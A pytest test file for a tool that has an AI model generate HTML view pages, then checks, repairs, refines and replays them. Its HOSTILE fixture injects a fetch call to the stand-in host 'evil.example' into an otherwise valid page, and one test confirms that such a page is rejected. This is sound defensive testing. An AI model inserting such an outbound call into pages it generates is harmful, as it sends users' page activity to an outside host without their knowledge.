"""Pages by a model: through the same checks, repaired by rules and by the model, refined, replayed."""

import json
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from kept import page_path, view_path
from standin import standing_in
from test_replay import without_views
from test_writing import build, contents, entry, key, project  # noqa: F401

from genui.cli import main

CASES = Path(__file__).parent / "cases" / "render"
TOOL = json.loads((CASES / "tool.json").read_text())
PAGE = (CASES / "nothing-wrong" / "page.html").read_text()
LATER = PAGE.replace("<h1>Orders</h1>", "<h1>All orders</h1>")
HOSTILE = PAGE.replace(
    "app.ontoolresult = show;", "app.ontoolresult = show;\nfetch('https://evil.example/' + 1);\n"
)
SLIP = PAGE.replace(' lang="en"', "")
PAGES = 'mode = "html"\n'
TRIED = PAGES + "render = true\n"
MODE = PAGES + "render = false\n"


def named(page, tool=TOOL):
    return page.replace("list_orders", tool["name"])


def test_a_page_becomes_the_view(project):  # noqa: F811
    with standing_in(f"Here you are:\n```html\n{PAGE}\n```") as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 0
    made = entry(generated, "list_orders")
    assert made.generator == "html"
    assert made.prompt == "generate_html"
    assert made.scores.startswith("html ")
    assert (page_path(generated, "list_orders")).read_text().startswith("<!doctype html>")
    assert b"modelcontextprotocol/ext-apps" not in (generated / made.file).read_bytes()
    assert main(["check", "--from-snapshot"]) == 0


@pytest.mark.parametrize("first", [HOSTILE, "I made a page for you.", PAGE[:800], json.dumps({"a": 1})])
def test_findings_of_a_page_go_back_to_the_model(project, first):  # noqa: F811
    with standing_in(first, PAGE) as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 0
        assert len(stand.requests) == 2
        assert "schema" not in str(stand.requests[0].get("output_config"))
    assert entry(generated, "list_orders").generator == "html"


def test_a_slip_is_mended_without_asking(project):  # noqa: F811
    with standing_in(SLIP) as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 0
        assert len(stand.requests) == 1
    assert entry(generated, "list_orders").generator == "html"


def test_a_hostile_page_is_never_let_in(project):  # noqa: F811
    with standing_in(HOSTILE) as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 4
        assert len(stand.requests) == 3
    made = entry(generated, "list_orders")
    assert made.generator == "offline"
    assert "the model's page has errors" in made.fallback
    assert not (page_path(generated, "list_orders")).exists()
    assert b"evil.example" not in (generated / made.file).read_bytes()


def refine(*arguments):
    """Refine in a thread of its own: in Playwright's no other event loop runs."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(main, ["refine", "list_orders", *arguments]).result()


def origin(generated):
    return json.loads(view_path(generated, "list_orders").read_text())["origin"]


@pytest.mark.parametrize(
    ("page", "why"),
    [
        (PAGE.replace("<input", "<output"), "has no form for the tool's arguments"),
        (PAGE.replace("result.isError", "result.failed"), "ignores isError"),
    ],
)
def test_a_page_that_lacks_what_every_view_has_does_not_beat_the_offline_view(project, page, why):  # noqa: F811
    with standing_in(page) as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 0
    assert entry(generated, "list_orders").generator == "offline"
    assert origin(generated)["why"] == f"the model's page {why}"


def test_a_page_that_throws_on_its_result_does_not_beat_the_offline_view(project, warm):  # noqa: F811
    throwing = PAGE.replace("const orders = result.structured", "const orders = result.missing.structured")
    with standing_in(throwing) as stand:
        generated = project(TOOL, address=stand.address, model=TRIED)
        assert build("--strict") == 0
    assert entry(generated, "list_orders").generator == "offline"
    assert origin(generated)["why"] == "the model's page does not work"
    assert origin(generated)["trial"].startswith("failed: ")
    assert main(["check", "--from-snapshot"]) == 0


def test_a_page_that_was_not_tried_says_so_in_its_view_file(project):  # noqa: F811
    with standing_in(PAGE) as stand:
        generated = project(TOOL, address=stand.address, model=TRIED)
        assert build("--strict", "--no-render") == 0
    assert (entry(generated, "list_orders").generator, origin(generated)["trial"]) == (
        "html",
        "not run: switched off",
    )


def test_a_wish_that_breaks_a_page_is_refused(project, warm, capsys):  # noqa: F811
    def act(body):
        broken = PAGE.replace("app.ontoolresult = show;", "app.ontoolresult = () => { throw Error('no'); };")
        return broken if "A person who uses this view wishes" in body["messages"][0]["content"] else PAGE

    with standing_in(act) as stand:
        generated = project(TOOL, address=stand.address, model=TRIED)
        assert build("--strict", "--no-render") == 0
        before = contents(generated)
        assert refine("a bolder heading") == 4
    assert "does not work" in capsys.readouterr().err
    assert contents(generated) == before


def test_a_page_is_refined_by_the_model_and_replayed(project, warm, monkeypatch, capsys):  # noqa: F811
    def act(body):
        return LATER if "A person who uses this view wishes" in body["messages"][0]["content"] else PAGE

    with standing_in(act) as stand:
        generated = project(TOOL, address=stand.address, model=TRIED)
        assert build("--record", "--strict") == 0
        assert origin(generated)["trial"] == "passed"
        assert refine("a bolder heading", "--record") == 0
    assert "All orders" in (page_path(generated, "list_orders")).read_text()
    assert main(["check", "--from-snapshot"]) == 0
    before = contents(generated)
    monkeypatch.delenv("ANTHROPIC_API_KEY")
    assert build() == 0
    assert contents(generated) == before
    assert build("--replay", "--force", "--strict") == 0
    assert contents(generated) == before
    without_views(generated)
    assert build("--replay", "--strict") == 0
    assert contents(generated) == before
    assert main(["undo", "list_orders"]) == 4
    assert refine("line chart") == 4
    assert "is a page" in capsys.readouterr().err


def test_a_page_gives_way_to_a_spec_when_the_mode_changes(project):  # noqa: F811
    with standing_in(PAGE) as stand:
        generated = project(TOOL, address=stand.address, model=MODE)
        assert build("--strict") == 0
    form = {"submit": "Show orders"}
    answer = json.dumps({"version": 1, "title": "Orders", "form": form, "result": [{"type": "auto"}]})
    with standing_in(answer) as stand:
        project(TOOL, address=stand.address)
        assert build("--strict") == 0
    assert entry(generated, "list_orders").generator == "spec"
    assert not (page_path(generated, "list_orders")).exists()
